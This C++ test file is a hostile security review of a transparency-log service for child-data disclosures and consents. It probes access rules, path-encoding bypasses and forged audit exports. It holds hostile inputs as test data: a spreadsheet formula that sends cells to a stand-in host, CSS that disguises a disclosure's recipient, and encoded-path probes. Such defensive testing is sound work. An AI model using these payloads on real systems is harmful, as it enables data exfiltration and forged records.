// A sixth hostile review, of the verifiable log's surfaces (issue 18): the
// gRPC calls of the transparency tree as every role, the tlog-tiles HTTP
// listener however a path is spelt, the signer key files, and `ycr audit
// verify` against forged exports and state files (with the csv export as a
// spreadsheet reads it); tried as an outside organisation or a careless
// client would. Each test asserts the RULE; a LEAK comment says what was
// shown to whom (or what forgery passed) and why that is wrong (each failed
// before its fix). Attacks that held are kept only where no earlier test
// pins the rule. The replicated node's read paths are in
// tests/etcd/follower_reads_test.cc. Fixtures: tlog_receipts_fixture.h.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstddef>
#include <filesystem>
#include <limits>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "common/tlog.h"
#include "common/tlog_proof.h"
#include "google/protobuf/util/json_util.h"
#include "services/tlog_checkpointer.h"
#include "tests/integration/tlog_receipts_fixture.h"
#include "ycr/v1/queries_service.grpc.pb.h"

namespace ycr::testing {
namespace {

// ---------------------------------------------------------------------------
// (a) and (b): Audit.Checkpoint, InclusionProof, ConsistencyProof and the
// tiles listener.

class HostileReview6TreeTest : public DomainFlowsTest {
 protected:
  HostileReview6TreeTest()
      : DomainFlowsTest([](services::ServerOptions* options, ManualClock*) {
          options->tlog_listen = "127.0.0.1:0";
        }) {}

  void SetUp() override { ASSERT_NO_FATAL_FAILURE(AddSubject("s-1")); }

  // The whole reply to `request`, sent byte for byte (no client rewrites
  // the path) to the tiles listener, which closes the connection after it.
  std::string Raw(const std::string& request) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(server_.server().tlog_port()));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    timeval timeout{10, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
    EXPECT_EQ(connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
    EXPECT_EQ(send(fd, request.data(), request.size(), MSG_NOSIGNAL),
              static_cast<ssize_t>(request.size()));
    std::string reply;
    char buffer[4096];
    for (ssize_t n; (n = recv(fd, buffer, sizeof(buffer), 0)) > 0;) {
      reply.append(buffer, static_cast<size_t>(n));
    }
    close(fd);
    return reply;
  }

  static std::string Request(const std::string& method,
                             const std::string& target,
                             const std::string& headers = "") {
    return absl::StrCat(method, " ", target, " HTTP/1.1\r\nHost: ycr\r\n",
                        headers, "Connection: close\r\n\r\n");
  }

  // Calls `method` of ycr.v1.Audit as `org` with `role`; the answer's code,
  // message and bytes as one text.
  template <typename Request, typename Response>
  std::string AuditAs(grpc::Status (v1::Audit::Stub::*method)(
                          grpc::ClientContext*, const Request&, Response*),
                      const Request& request, const std::string& org,
                      const std::string& role) {
    auto audit = v1::Audit::NewStub(channel_);
    grpc::ClientContext context;
    AsCaller(&context, org, "user-1", role);
    Response out;
    const grpc::Status s = (audit.get()->*method)(&context, request, &out);
    return absl::StrCat(s.error_code(), " ", s.error_message(), " ",
                        absl::BytesToHexString(out.SerializeAsString()));
  }
};

// Held (pinned here: tlog_serve_test asks as one role each): every role
// gets the same answer, byte for byte, to the same absurd question, so no
// answer depends on who asks or on any subject; a caller with no role is
// refused before anything is read.
TEST_F(HostileReview6TreeTest, AbsurdTreeQuestionsAnswerEveryRoleAlike) {
  constexpr uint64_t kMax = std::numeric_limits<uint64_t>::max();
  v1::SignedCheckpoint latest;
  {
    auto audit = v1::Audit::NewStub(channel_);
    grpc::ClientContext context;
    AsCaller(&context, kSchool);
    v1::CheckpointRequest now;
    now.set_min_tree_size(Head());
    ASSERT_TRUE(Ok(audit->Checkpoint(&context, now, &latest)));
  }
  const uint64_t size = latest.tree_size();
  std::vector<std::string> answers;
  const std::vector<std::pair<std::string, std::string>> callers = {
      {kSchool, "school"},
      {kService, "service"},
      {"la-a", "local_authority"},
      {"auditor-1", "auditor"},
      {"ops", "admin"},
      {"scheduler-1", "scheduler"}};
  for (const auto& [org, role] : callers) {
    std::string all;
    for (uint64_t min : {uint64_t{0}, size + 1, kMax}) {
      v1::CheckpointRequest r;
      r.set_min_tree_size(min);
      absl::StrAppend(&all, AuditAs(&v1::Audit::Stub::Checkpoint, r, org, role),
                      "\n");
    }
    for (auto [position, tree] : std::vector<std::pair<uint64_t, uint64_t>>{
             {0, 0}, {1, 0}, {size, 1}, {size + 1, 0}, {kMax, 0}, {1, kMax}}) {
      v1::InclusionProofRequest r;
      r.set_position(position);
      r.set_tree_size(tree);
      absl::StrAppend(
          &all, AuditAs(&v1::Audit::Stub::InclusionProof, r, org, role), "\n");
    }
    for (auto [old_size, new_size] : std::vector<std::pair<uint64_t, uint64_t>>{
             {0, 0}, {size, 1}, {kMax, 0}, {1, kMax}, {kMax, kMax}}) {
      v1::ConsistencyProofRequest r;
      r.set_old_size(old_size);
      r.set_new_size(new_size);
      absl::StrAppend(&all,
                      AuditAs(&v1::Audit::Stub::ConsistencyProof, r, org, role),
                      "\n");
    }
    answers.push_back(all);
  }
  for (size_t i = 1; i < answers.size(); ++i) {
    EXPECT_EQ(answers[i], answers[0]) << callers[i].second;
  }
  // Each absurd size is refused naming its field, never a crash or a proof.
  EXPECT_TRUE(absl::StrContains(answers[0], "min_tree_size: ")) << answers[0];
  EXPECT_TRUE(absl::StrContains(answers[0], "position: ")) << answers[0];
  EXPECT_TRUE(absl::StrContains(answers[0], "tree_size: ")) << answers[0];
  EXPECT_TRUE(absl::StrContains(answers[0], "old_size: ")) << answers[0];
  EXPECT_TRUE(absl::StrContains(answers[0], "new_size: ")) << answers[0];
  // No role: refused.
  v1::CheckpointRequest r;
  const std::string none =
      AuditAs(&v1::Audit::Stub::Checkpoint, r, kSchool, "no-such-role");
  EXPECT_TRUE(absl::StartsWith(none, "7 ")) << none;  // PERMISSION_DENIED
}

// Held (pinned here: tlog_serve_test asks for the two plain paths only):
// entry bundles are the records, personal data, refused (403) however the
// path is spelt (percent-encoded, an encoded slash, a query string, a dot
// segment) and whatever the caller claims to be; other methods get 405; a
// path that is not one tile's one canonical name is 404, never a tile.
TEST_F(HostileReview6TreeTest, EntryBundlesStayRefusedHoweverThePathIsSpelt) {
  auto code = [](const std::string& reply) {
    return reply.size() < 12 ? std::string("closed") : reply.substr(9, 3);
  };
  for (const std::string& target : std::vector<std::string>{
           "/tile/%65ntries/000", "/tile/entries%2F000",
           "/tile/entries/000?x=1", "/tile/entries/000.p/1",
           "/tile/entries/x000/000", "/tile/./entries/000"}) {
    for (const std::string& claims :
         {std::string(), std::string("x-ycr-role: auditor\r\n")}) {
      const std::string reply = Raw(Request("GET", target, claims));
      EXPECT_EQ(code(reply), target == "/tile/./entries/000" ? "404" : "403")
          << target << "\n"
          << reply;
      EXPECT_FALSE(absl::StrContains(reply, "s-1")) << reply;
    }
  }
  for (const char* method : {"POST", "PUT", "DELETE"}) {
    EXPECT_EQ(code(Raw(Request(method, "/tile/entries/000"))), "405") << method;
    EXPECT_EQ(code(Raw(Request(method, "/checkpoint"))), "405") << method;
  }
  const std::string head = Raw(Request("HEAD", "/tile/entries/000"));
  EXPECT_EQ(code(head), "403") << head;
  EXPECT_FALSE(absl::StrContains(head, "over gRPC")) << head;  // No body.
  // Not a tile: leading zeros, a zero or a full width, a level past the
  // tree's, an x on the last group, an index past any tree, dot segments.
  for (const std::string& target : std::vector<std::string>{
           "/tile/00/000", "/tile/0/000.p/0", "/tile/0/000.p/256",
           "/tile/0/000.p/01", "/tile/8/000", "/tile/63/000", "/tile/0/x000",
           "/tile/0/x000/000", "/tile/0/x999/x999/x999/x999/x999/x999/999",
           "/tile/0/../0/000.p/1", "/tile/0/000.p/1/",
           "/tile/0/" + std::string(9000, '0')}) {
    const std::string reply = Raw(Request("GET", target));
    // 404, or for a line too long to read 414 or a closed connection.
    EXPECT_TRUE(code(reply) == "404" || target.size() > 8000)
        << target.substr(0, 80) << "\n"
        << reply.substr(0, 200);
    EXPECT_FALSE(absl::StrContains(reply, "application/octet-stream"))
        << target.substr(0, 80);
  }
}

// ---------------------------------------------------------------------------
// (d) Keys. Held (pinned here: tlog_serve_test refuses a key others can
// read, one named otherwise, another key on a kept store): a --tlog_key that
// is missing, a directory, or holds the public verifier key instead of the
// signer key is refused at start naming --tlog_key, and nothing is made in
// its place (a server never signs with a key it invented when one was
// named).
TEST(HostileReview6KeyTest, AMissingOrWrongKeyFileIsRefusedNotReplaced) {
  TempDir dir;
  const std::string key = dir.path() + "/signer.key";
  auto made = services::WriteNewSignerKey(key, "council.example/ycr/v1");
  ASSERT_TRUE(made.ok()) << made.status();
  const std::string vkey = dir.path() + "/verifier.key";
  ASSERT_TRUE(WritePrivateFile(vkey, note::VerifierKey(*made) + "\n").ok());
  for (const std::string& path :
       {dir.path() + "/missing.key", dir.path(), vkey}) {
    services::ServerOptions options;
    options.listen = "127.0.0.1:0";
    options.security.insecure = true;
    options.log.path = dir.path() + "/data";
    options.log.sync = false;
    options.tlog_key_file = path;
    auto server = services::Server::Start(std::move(options));
    ASSERT_FALSE(server.ok()) << path;
    EXPECT_EQ(server.status().code(), absl::StatusCode::kInvalidArgument)
        << server.status();
    EXPECT_TRUE(absl::StartsWith(server.status().message(), "--tlog_key: "))
        << server.status();
  }
  EXPECT_FALSE(std::filesystem::exists(dir.path() + "/missing.key"));
  EXPECT_FALSE(std::filesystem::exists(dir.path() + "/data/tlog-signer.key"));
}

// ---------------------------------------------------------------------------
// (c) `ycr audit verify` against forged exports and state files.

class HostileReview6VerifyTest : public ForgedExportTest {
 protected:
  // `text`'s first disclosure row with a receipt (csv), its receipt edited
  // by `edit` and its fields by `row`.
  static std::string EditCsvReceipt(
      const std::string& text, const std::function<void(tlog::Proof&)>& edit,
      const std::function<void(std::vector<std::string>&)>& row =
          [](std::vector<std::string>&) {}) {
    return EditCsvRow(text, [&](std::vector<std::string>& fields) {
      std::string decoded;
      EXPECT_TRUE(absl::Base64Unescape(fields.back(), &decoded));
      absl::StatusOr<tlog::Proof> proof = tlog::ParseProof(decoded);
      EXPECT_TRUE(proof.ok()) << proof.status();
      if (!proof.ok()) return;
      edit(*proof);
      fields.back() = absl::Base64Escape(tlog::FormatProof(*proof));
      row(fields);
    });
  }

  // `signer`'s checkpoint of the server's latest tree.
  static std::string SignedBy(const note::Signer& signer,
                              const services::SignedTreeHead& latest) {
    note::Checkpoint checkpoint{signer.name, latest.size, latest.root, {}};
    auto signed_note = note::Sign(note::FormatCheckpoint(checkpoint), signer);
    EXPECT_TRUE(signed_note.ok()) << signed_note.status();
    return signed_note.ok() ? *signed_note : "";
  }
};

// Held (pinned here): a receipt whose index lies beyond the tree of its own
// checkpoint, on a row that states that position, fails by name.
TEST_F(HostileReview6VerifyTest, AReceiptBeyondItsCheckpointFails) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string text = Verified("csv", /*auditor=*/false);
  int64_t size = 0;
  const std::string forged = EditCsvReceipt(
      text,
      [&size](tlog::Proof& proof) {
        auto opened = note::ParseCheckpoint(
            proof.checkpoint.substr(0, proof.checkpoint.find("\n\n") + 1));
        ASSERT_TRUE(opened.ok()) << opened.status();
        size = opened->size;
        proof.index = size + 10;
      },
      [&size](std::vector<std::string>& fields) {
        fields[0] = absl::StrCat(size + 11);
      });
  ExpectFails("beyond.csv", forged, "index outside the tree");
}

// Held (pinned here): a state file that was tampered with, that holds no
// checkpoint, or that holds a checkpoint of another log (another origin, its
// own key) fails, and is left as it was; so does a current checkpoint
// (--checkpoint) of another log.
TEST_F(HostileReview6VerifyTest, AStateFileTamperedOrOfAnotherLogFails) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string state = dir_.path() + "/auditor.state";
  ASSERT_EQ(Verify({"--state", state}).code, 0);
  const std::string good = Read(state);
  auto latest = server_.server().checkpointer().Latest();
  ASSERT_TRUE(latest.has_value());
  auto other = note::NewSigner("other.example/ycr/v1");
  ASSERT_TRUE(other.ok());
  std::string tampered = good;
  tampered[tampered.size() - 5] ^= 1;  // In the signature's base64.
  for (const auto& [name, contents] :
       std::vector<std::pair<std::string, std::string>>{
           {"tampered", tampered},
           {"empty", ""},
           {"not a checkpoint", "hello\n"},
           {"another log's", SignedBy(*other, *latest)}}) {
    ASSERT_TRUE(WritePrivateFile(state, contents).ok());
    Outcome run = Verify({"--state", state});
    EXPECT_EQ(run.code, 1) << name << "\n" << run.out;
    EXPECT_TRUE(Has(run.out, "FAIL: the state file's checkpoint is"))
        << name << "\n"
        << run.out;
    EXPECT_EQ(Read(state), contents) << name;
  }
  const std::string foreign = dir_.path() + "/foreign.checkpoint";
  ASSERT_TRUE(WritePrivateFile(foreign, SignedBy(*other, *latest)).ok());
  Outcome run = Verify({"--checkpoint", foreign});
  EXPECT_EQ(run.code, 1) << run.out;
  EXPECT_TRUE(Has(run.out, "FAIL: the checkpoint is not signed by")) << run.out;
}

// README ("Receipts"): an auditor's receipts hold the records, so the rows
// that carry them are tied to what the records say. LEAK (a forgery that
// verified): a receipt is taken to hold the record unless its extra line is
// 32 bytes, and then only its position is checked. So an auditor's export
// whose disclosure row was edited (here: to name another recipient), and
// whose receipt had the record swapped for its leaf hash (public: any role
// gets it from Audit.InclusionProof or the level-0 tile), passed with
// "every check passed": the forged row carried a valid-looking proof. An
// export whose receipts mix records and hashes is not one the server wrote
// (it writes an auditor's records, everyone else's hashes), and an auditor
// who verifies an auditor's export can ask that every receipt hold its
// record (--records).
TEST_F(HostileReview6VerifyTest, AnAuditorsReceiptCannotBeCutToItsLeafHash) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string text = Verified("csv");
  auto to_leaf_hash = [](tlog::Proof& proof) {
    ASSERT_TRUE(proof.extra.has_value());
    proof.extra = tlog::HashBytes(tlog::RecordHash(*proof.extra));
  };
  const std::string forged = EditCsvReceipt(
      text, to_leaf_hash,
      [](std::vector<std::string>& f) { f[8] = "school-999999"; });
  ExpectFails("cut.csv", forged, "hold the record and others only");
  // Every receipt cut to its hash: only --records tells.
  std::vector<std::string> rows = absl::StrSplit(forged, "\r\n");
  for (std::string& row : rows) {
    std::vector<std::string> f = absl::StrSplit(row, ',');
    std::string decoded;
    if (f.size() < 2 || !absl::Base64Unescape(f.back(), &decoded)) continue;
    auto proof = tlog::ParseProof(decoded);
    if (!proof.ok() || proof->extra->size() == 32) continue;
    to_leaf_hash(*proof);
    f.back() = absl::Base64Escape(tlog::FormatProof(*proof));
    row = absl::StrJoin(f, ",");
  }
  const std::string all_cut = absl::StrJoin(rows, "\r\n");
  const std::string file = dir_.path() + "/all-cut.csv";
  ASSERT_TRUE(WritePrivateFile(file, all_cut).ok());
  Outcome run = Verify({"--export", file, "--records"});
  EXPECT_EQ(run.code, 1) << run.out;
  EXPECT_TRUE(Has(run.out, "holds only its leaf hash, not the record"))
      << run.out;
  // Without --records the output says plainly what was not checked.
  run = Verify({"--export", file});
  EXPECT_TRUE(Has(run.out, "hold only leaf hashes")) << run.out;
  // The auditor's genuine export passes with --records; the school's fails.
  const std::string genuine = dir_.path() + "/genuine.csv";
  ASSERT_TRUE(WritePrivateFile(genuine, text).ok());
  run = Verify({"--export", genuine, "--records"});
  EXPECT_EQ(run.code, 0) << run.out;
  run = Verify({"--export", Export("csv", false), "--records"});
  EXPECT_EQ(run.code, 1) << run.out;
}

// README ("Receipts"): an html page is read as a browser shows it. LEAK (a
// forgery that verified): the verifier read the rows' cells as written and
// nothing else of the page, so a style sheet added to the page (or a style
// attribute, a script, an element the export never writes) could show a
// disclosure's "To whom" as another organisation while the cells, and so
// every check, stayed the record's: "every check passed" on a page that
// shows a disclosure to someone it never went to. The page may now hold
// only the markup the export writes (its tags, attributes and one style
// sheet, its own).
TEST_F(HostileReview6VerifyTest, AnHtmlPageHoldsOnlyTheMarkupTheExportWrites) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string text = Verified("html");
  const std::string disguise =
      "tr[data-disclosure] td:nth-child(4){font-size:0}"
      "tr[data-disclosure] td:nth-child(4)::after"
      "{content:\"school-999999\";font-size:14px}";
  auto before = [&text](const std::string& at, const std::string& what) {
    const size_t where = text.find(at);
    EXPECT_NE(where, std::string::npos) << at;
    return absl::StrCat(text.substr(0, where), what, text.substr(where));
  };
  ExpectFails("sheet.html",
              before("</head>", absl::StrCat("<style>", disguise, "</style>")),
              "markup the export does not write");
  ExpectFails("body-sheet.html",
              before("</tbody>", absl::StrCat("<STYLE>", disguise, "</STYLE>")),
              "markup the export does not write");
  ExpectFails("attribute.html",
              before("<td>" + kService, "<td style=\"display:none\">x</td>"),
              "markup the export does not write");
  ExpectFails("script.html", before("</body>", "<script>1</script>"),
              "markup the export does not write");
  ExpectFails("comment.html", before("</body>", "<!-- x -->"),
              "markup the export does not write");
  std::string own_sheet_changed = text;
  const size_t sheet = own_sheet_changed.find("<style>") + 7;
  own_sheet_changed.insert(sheet, disguise);
  ExpectFails("own-sheet.html", own_sheet_changed,
              "markup the export does not write");
}

// Held (pinned here): a jsonl line that states its disclosure twice (a
// reader that keeps the first key and one that keeps the last would see two
// different disclosures) fails, whichever copy is the forged one.
TEST_F(HostileReview6VerifyTest, AJsonlLineStatesEachKeyOnce) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string text = Verified("jsonl");
  const size_t key = text.find("\"disclosure\":{");
  ASSERT_NE(key, std::string::npos) << text;
  size_t end = key + 14, depth = 1;
  for (; end < text.size() && depth > 0; ++end) {
    depth += text[end] == '{' ? 1 : text[end] == '}' ? -1 : 0;
  }
  const std::string genuine = text.substr(key, end - key);
  const std::string forged =
      absl::StrReplaceAll(genuine, {{kService, "school-999999"}});
  ASSERT_NE(forged, genuine);
  std::string last = text, first = text;
  last.insert(end, "," + forged);
  first.insert(key, forged + ",");
  for (const auto& [name, page] :
       std::vector<std::pair<std::string, std::string>>{
           {"last.jsonl", last}, {"first.jsonl", first}}) {
    const std::string file = dir_.path() + "/" + name;
    ASSERT_TRUE(WritePrivateFile(file, page).ok());
    Outcome run = Verify({"--export", file});
    EXPECT_EQ(run.code, 1) << name << "\n" << run.out;
    EXPECT_TRUE(Has(run.out, "is not JSON")) << run.out;  // Repeated key.
  }
}

// An auditor opens a csv export in a spreadsheet. LEAK: a field was
// written as it was, so a caller whose user name (any printable text in its
// certificate or metadata) starts with "=" put a formula in the auditor's
// sheet, which can send the sheet's cells (other organisations' disclosures
// about the child) to an address of the caller's choosing. A field that
// starts with = + - @ or a tab or carriage return is written after a "'"
// (the spreadsheet convention for text), and the export still verifies.
TEST_F(HostileReview6VerifyTest, ACsvFieldIsNeverAFormula) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string formula = "=WEBSERVICE(\"http://example.invalid/\"&A1)";
  v1::RecordDisclosureRequest disclose;
  disclose.set_request_id(NewUuid());
  *disclose.mutable_disclosure() =
      Disclosure("s-1", kSchool, kService, v1::PURPOSE_REFERRAL,
                 {v1::DATA_CATEGORY_IDENTITY}, "c-1");
  grpc::ClientContext context;
  AsCaller(&context, kSchool, formula);
  v1::CommandResponse done;
  ASSERT_TRUE(Ok(sharing_->RecordDisclosure(&context, disclose, &done)));
  const std::string text = Verified("csv");
  int rows = 0;
  for (absl::string_view line : absl::StrSplit(text, "\r\n")) {
    for (absl::string_view field : absl::StrSplit(line, ',')) {
      absl::ConsumePrefix(&field, "\"");
      EXPECT_TRUE(field.empty() ||
                  absl::string_view("=+-@\t\r").find(field[0]) ==
                      absl::string_view::npos)
          << line;
    }
    rows += absl::StrContains(line, "'=WEBSERVICE(") ? 1 : 0;
  }
  EXPECT_EQ(rows, 1) << text;
}

// README ("Receipts"): the consent in force at a disclosure is proved like
// the rest of the row. LEAK (a forgery that verified): an export's
// consent-in-force columns (csv consent_in_force and consent_terms, the
// html basis cell) were worked out by the export from the consent rows,
// which carried no receipts, and the verifier did not check them. So an
// auditor's csv edited to say that a disclosure made under a consent in
// force was "not covered" (or the reverse) passed with "every check
// passed", though whether consent covered a disclosure is what the export
// is for. The consent records a disclosure rests on now carry receipts,
// and the verifier works the columns out again from them.
TEST_F(HostileReview6VerifyTest, TheConsentInForceColumnsAreChecked) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string text = Verified("csv");
  ExpectFails("in-force.csv",
              EditCsvRow(text,
                         [](std::vector<std::string>& f) {
                           f[12] = "not covered by consent: withdrawn";
                           f[13] = "";
                         }),
              "column consent_in_force");
}

// The consent's terms in force, in each form: the csv consent_terms
// column, the jsonl consentInForce, the html basis cell, the row's
// highlighting (a disclosure made without consent in force is
// highlighted) and the page's count of such disclosures.
TEST_F(HostileReview6VerifyTest, TheConsentTermsAreCheckedInEveryForm) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string csv = Verified("csv");
  ExpectFails(
      "terms.csv",
      EditCsvRow(
          csv,
          [](std::vector<std::string>& f) {
            f[13] = absl::StrReplaceAll(f[13], {{"of IDENTITY", "of HEALTH"}});
          }),
      "column consent_terms");
  // `text` with `from`, which it holds, replaced by `to`.
  auto edited = [](const std::string& text, const std::string& from,
                   const std::string& to) {
    EXPECT_TRUE(Has(text, from)) << from << "\n" << text;
    return absl::StrReplaceAll(text, {{from, to}});
  };
  ExpectFails("in-force.jsonl",
              edited(Verified("jsonl"), "\"consentInForce\":{\"covered\":true",
                     "\"consentInForce\":{\"covered\":false"),
              "its row says consentInForce");
  const std::string html = Verified("html");
  ExpectFails(
      "basis.html",
      edited(html, "in force then: for REFERRAL", "in force then: for CARE"),
      "basis cell 5");
  const size_t row = html.find(" data-disclosure>");
  ASSERT_NE(row, std::string::npos) << html;
  std::string highlighted = html;
  highlighted.replace(row, 17, " data-disclosure class=\"no-consent\">");
  ExpectFails("highlighted.html", highlighted, "the row's class");
  // The page's summary counts what its rows show.
  ExpectFails("summary.html",
              edited(html, "; 0 disclosure(s) made without consent",
                     "; 1 disclosure(s) made without consent"),
              "the html summary does not say");
}

// The consent records a disclosure rests on must all be in the export,
// each with its receipt: a dropped consent row (or its receipt) fails,
// naming the disclosure's row and the column it would prove.
TEST_F(HostileReview6VerifyTest, ADroppedConsentRowFails) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  const std::string text = Verified("csv");
  std::vector<std::string> lines = absl::StrSplit(text, "\r\n");
  std::vector<std::string> without, unreceipted;
  for (const std::string& line : lines) {
    std::vector<std::string> f = absl::StrSplit(line, ',');
    if (f.size() > 2 && f[2] == "consent_granted") {
      ASSERT_FALSE(f.back().empty()) << line;
      f.back() = "";
      unreceipted.push_back(absl::StrJoin(f, ","));
      continue;
    }
    without.push_back(line);
    unreceipted.push_back(line);
  }
  ASSERT_EQ(without.size() + 1, lines.size()) << text;
  for (const auto& [name, forged] :
       std::vector<std::pair<std::string, std::string>>{
           {"dropped.csv", absl::StrJoin(without, "\r\n")},
           {"unreceipted.csv", absl::StrJoin(unreceipted, "\r\n")}}) {
    ExpectFails(name, forged,
                "its row's consent_in_force and consent_terms cannot be "
                "worked out again: it rests on consent c-1 version 1, whose "
                "record the export does not hold");
  }
}

// A consent row of another child, with its genuine receipt, pasted into
// an export fails: in place of the consent a disclosure rests on, and
// beside it (a consent no disclosure of the export rests on, about
// another subject).
TEST_F(HostileReview6VerifyTest, AConsentRowOfAnotherSubjectFails) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  ASSERT_NO_FATAL_FAILURE(MakeHistory("s-2", "c-2"));
  const std::string text = Verified("csv");
  // s-2's export, as the auditor: its consent's row, with its receipt.
  const std::string other = dir_.path() + "/s-2.csv";
  Outcome run = AsAuditor({"audit", "export", "--subject", "s-2", "--format",
                           "csv", "--output", other});
  ASSERT_EQ(run.code, 0) << run.err;
  std::string pasted;
  for (absl::string_view line : absl::StrSplit(Read(other), "\r\n")) {
    if (absl::StrContains(line, ",consent_granted,"))
      pasted = std::string(line);
  }
  ASSERT_FALSE(pasted.empty());
  std::vector<std::string> replaced = absl::StrSplit(text, "\r\n");
  std::vector<std::string> beside = replaced;
  for (size_t i = 0; i < replaced.size(); ++i) {
    if (absl::StrContains(replaced[i], ",consent_granted,")) {
      replaced[i] = pasted;
      beside.insert(beside.begin() + static_cast<std::ptrdiff_t>(i) + 1,
                    pasted);
      break;
    }
  }
  ExpectFails("replaced.csv", absl::StrJoin(replaced, "\r\n"),
              "rests on consent c-1 version 1, whose record the export does "
              "not hold");
  ExpectFails("beside.csv", absl::StrJoin(beside, "\r\n"),
              "the export holds a record of consent c-2 (about subject s-2) "
              "that no disclosure of the export rests on");
}

// A disclosure rests on every record of its consent up to the version it
// names: after a variation, a disclosure's terms are worked out from the
// grant and the variation, and an export without the variation's record
// (or with the grant's terms stated for that disclosure) fails.
TEST_F(HostileReview6VerifyTest, AVariedConsentIsWorkedOutAtEachDisclosure) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  v1::ConsentVaried varied;
  varied.set_consent_id("c-1");
  *varied.mutable_terms() =
      Consent("c-1", "s-1", kService, {v1::PURPOSE_REFERRAL},
              {v1::DATA_CATEGORY_IDENTITY, v1::DATA_CATEGORY_ATTENDANCE},
              clock_.Now())
          .consent()
          .terms();
  std::string variation;
  ASSERT_TRUE(
      google::protobuf::util::MessageToJsonString(varied, &variation).ok());
  Outcome run = Ycr({"consents", "vary", "--data",
                     absl::StrCat("{\"variation\":", variation,
                                  ",\"personal\":{\"reason\":\"more\"}}")});
  ASSERT_EQ(run.code, 0) << run.err;
  v1::RecordDisclosureRequest third;
  *third.mutable_disclosure() =
      Disclosure("s-1", kSchool, kService, v1::PURPOSE_REFERRAL,
                 {v1::DATA_CATEGORY_ATTENDANCE}, "c-1");
  ASSERT_TRUE(Ok(Disclose(third, kSchool)));
  const std::string text = Verified("csv");
  run = Verify({"--export", Export("csv", true), "--records"});
  EXPECT_EQ(run.code, 0) << run.out;
  EXPECT_TRUE(Has(run.out,
                  "worked out again from the records at positions "
                  "2, 5"))
      << run.out;
  std::vector<std::string> rows = absl::StrSplit(text, "\r\n");
  std::vector<std::string> without_variation;
  for (const std::string& row : rows) {
    std::vector<std::string> f = absl::StrSplit(row, ',');
    if (f.size() > 2 && f[2] == "consent_varied") continue;
    without_variation.push_back(row);
  }
  ASSERT_EQ(without_variation.size() + 1, rows.size()) << text;
  ExpectFails("no-variation.csv", absl::StrJoin(without_variation, "\r\n"),
              "it rests on consent c-1 version 2, whose record the export "
              "does not hold");
  // The terms of the disclosure after the variation said to be the grant's.
  ASSERT_TRUE(Has(text, "of IDENTITY, ATTENDANCE;")) << text;
  const std::string old_terms =
      absl::StrReplaceAll(text, {{"of IDENTITY, ATTENDANCE;", "of IDENTITY;"}});
  ExpectFails("old-terms.csv", old_terms, "column consent_terms");
}

// README ("Receipts"): erasure destroys keys, not leaves. An auditor's
// export made before the subject's erasure still proves, after it, every
// row and the consent in force at each disclosure, in every form.
TEST_F(HostileReview6VerifyTest, TheConsentColumnsStillVerifyAfterErasure) {
  ASSERT_NO_FATAL_FAILURE(MakeHistory());
  std::vector<std::string> files;
  for (const std::string format : {"csv", "jsonl", "html"}) {
    files.push_back(Export(format, /*auditor=*/true));
  }
  Outcome run = Ycr({"subjects", "erase", "--data",
                     R"({"subject_id": "s-1", "request_ref": "erasure-1"})"});
  ASSERT_EQ(run.code, 0) << run.err;
  v1::SubjectRecord record;
  ASSERT_TRUE(Ok(GetRecord("s-1", &record)));
  ASSERT_TRUE(record.erased());
  for (const std::string& file : files) {
    for (const std::vector<std::string>& extra :
         {std::vector<std::string>{"--export", file, "--records"},
          std::vector<std::string>{"--export", file, "--records",
                                   "--offline"}}) {
      run = Verify(extra);
      EXPECT_EQ(run.code, 0) << file << "\n" << run.out;
      // Both disclosures' consent in force, worked out from the grant.
      size_t worked_out = 0;
      for (size_t at = run.out.find("worked out again from the records at");
           at != std::string::npos;
           at = run.out.find("worked out again from the records at", at + 1)) {
        ++worked_out;
      }
      EXPECT_EQ(worked_out, 2u) << file << "\n" << run.out;
    }
  }
}

}  // namespace
}  // namespace ycr::testing
